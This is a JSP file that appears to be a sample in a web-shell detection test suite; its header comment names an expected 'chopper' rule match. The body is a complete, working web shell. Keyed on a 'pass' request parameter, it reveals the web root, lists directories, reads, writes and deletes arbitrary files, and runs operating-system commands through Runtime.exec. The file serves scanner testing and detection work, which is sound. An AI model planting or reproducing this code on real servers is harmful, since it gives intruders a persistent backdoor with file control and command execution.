<%-- expect rule=family.chopper min=85 --%>
<%@ page import="java.io.*,java.util.*" %>
<%!
    String cs = "UTF-8";
    String dec(String s) throws Exception { return new String(s.getBytes("ISO-8859-1"), cs); }
    void listDir(String d, StringBuffer sb) throws Exception {
        File[] fs = new File(d).listFiles();
        for (int i = 0; fs != null && i < fs.length; i++) sb.append(fs[i].getName()).append("\n");
    }
    void readF(String p, StringBuffer sb) throws Exception {
        BufferedReader br = new BufferedReader(new FileReader(new File(p)));
        String l;
        while ((l = br.readLine()) != null) sb.append(l);
    }
    void writeF(String p, String d) throws Exception {
        FileWriter w = new FileWriter(new File(p));
        w.write(d);
        w.close();
    }
    void delF(String p) { new File(p).delete(); }
%>
<%
    String op = request.getParameter("pass") + "";
    String z1 = dec(request.getParameter("z1") + "");
    String z2 = dec(request.getParameter("z2") + "");
    StringBuffer sb = new StringBuffer();
    if (op.equals("A")) sb.append(application.getRealPath("/"));
    else if (op.equals("B")) listDir(z1, sb);
    else if (op.equals("C")) readF(z1, sb);
    else if (op.equals("D")) writeF(z1, z2);
    else if (op.equals("E")) delF(z1);
    else if (op.equals("M")) {
        Process p = Runtime.getRuntime().exec(new String[]{z1.substring(2), z1.substring(0, 2), z2});
        sb.append(p.getInputStream().read());
    }
    out.print(sb.toString());
%>
